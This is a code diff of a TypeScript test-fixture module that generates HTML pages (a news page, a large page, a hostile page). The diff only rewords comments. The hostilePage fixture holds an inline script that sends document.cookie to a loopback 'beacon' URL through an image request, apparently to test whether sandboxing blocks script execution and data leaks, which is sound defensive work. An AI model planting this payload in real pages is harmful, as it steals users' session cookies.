@@ -1,4 +1,4 @@
-/** A page of an imaginary paper, with what a page has around its article. */
+/** A page of an imaginary newspaper, with boilerplate around its article. */
 export function newsPage(words = 'the harbour'): string {
   const sentences = Array.from(
     { length: 4 },
@@ -25,8 +25,8 @@ export function largePage(nodes: number): string {
 }
 
 /**
- * A page that tries all it can to run, to go somewhere, and to tell: it calls `beacon` with what it could read.
- * `beacon` is an address on loopback that nothing honest asks for.
+ * A page that tries everything to run scripts, to navigate and to send data: it calls `beacon` with what it could read.
+ * `beacon` is a loopback address that nothing else requests.
  */
 export function hostilePage(beacon: string): string {
   const run = `top.__ran=1;parent.__ran=1;new Image().src='${beacon}?'+document.cookie`;
